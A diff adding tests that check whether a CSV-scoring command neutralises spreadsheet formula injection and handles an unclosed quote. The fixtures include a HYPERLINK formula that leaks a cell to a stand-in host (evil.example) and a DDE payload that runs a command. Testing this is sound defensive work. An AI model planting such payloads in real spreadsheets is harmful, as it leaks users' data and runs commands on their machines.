@@ -94,6 +94,57 @@ describe('sf score csv', () => {
     }
   });
 
+  describe('hostile and broken input', () => {
+    let hostile: string;
+    let brokenLine: number;
+    const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")';
+    const CALC = "+cmd|' /C calc'!A0";
+    beforeAll(() => {
+      const input = parse(readFileSync(good, 'utf8')) as string[][];
+      const rows = input.slice(1).map((r) => [...r]);
+      rows[0][header.indexOf('Name')] = HYPERLINK;
+      rows[1][header.indexOf('Owner Notes')] = CALC;
+      rows[3][header.indexOf('AnnualRevenue')] = '-3.5';
+      rows[3][header.indexOf('Owner Notes')] = '@SUM(1+1)';
+      // a row on one line whose first cell opens a quote that is never closed on that line
+      const i = lineOf.findIndex((l, k) => k > 4 && k < 29 && lineOf[k + 1] - l === 1);
+      brokenLine = lineOf[i];
+      const lines = stringify([header, ...rows]).split('\n');
+      expect(lines[brokenLine - 1].startsWith(`keep ${i},`)).toBe(true);
+      lines[brokenLine - 1] = `"${lines[brokenLine - 1]}`;
+      hostile = path.join(dir, 'hostile.csv');
+      writeFileSync(hostile, lines.join('\n'));
+    });
+
+    it('an unclosed quote is reported on its line, the rows after it are read, and nothing is written', async () => {
+      const output = path.join(dir, 'hostile-refused.csv');
+      const run = await runCommand(ScoreCsv, ['--input', hostile, '--output', output, '--model', modelFile]);
+      expect(run.error?.message).toContain("1 of 30 rows can't be scored");
+      expect(run.error?.message).toMatch(new RegExp(`line ${brokenLine}: unbalanced quote.*reading resumed on line ${brokenLine + 1}`));
+      expect(existsSync(output)).toBe(false);
+    });
+
+    it('--allow-bad-rows: counts add up, the broken row keeps its place, formulas are neutralised and numbers kept', async () => {
+      const output = path.join(dir, 'hostile.out.csv');
+      const run = await runCommand(ScoreCsv, ['--input', hostile, '--output', output, '--model', modelFile, '--allow-bad-rows', '--json']);
+      expect(run.error).toBeUndefined();
+      const result = ScoreCsvResult.parse(parseJsonOutput(run.stdout).result);
+      expect(result).toMatchObject({ rows: 30, scored: 29, badRows: 1 });
+      expect(result.rows).toBe(result.scored + result.badRows);
+      const text = readFileSync(output, 'utf8');
+      const out = parse(text) as string[][];
+      expect(out).toHaveLength(31);
+      expect(out[1][header.indexOf('Name')]).toBe(`'${HYPERLINK}`);
+      expect(out[2][0]).toBe(`'${CALC}`);
+      expect(out[4][header.indexOf('AnnualRevenue')]).toBe('-3.5');
+      expect(out[4][0]).toBe(`'@SUM(1+1)`);
+      const broken = out.findIndex((r) => r[header.length + 4].startsWith(`line ${brokenLine}:`));
+      expect(broken).toBeGreaterThan(5);
+      expect(out[broken + 1][0]).toBe(`keep ${broken}`);
+      for (const r of out) for (const c of r) expect(c).not.toMatch(/^[=+@\t\r]/);
+    });
+  });
+
   it('refuses a header without the columns the model reads', async () => {
     const noCols = path.join(dir, 'no-cols.csv');
     writeFileSync(noCols, 'Name,Website\nAcme,acme.com\n');
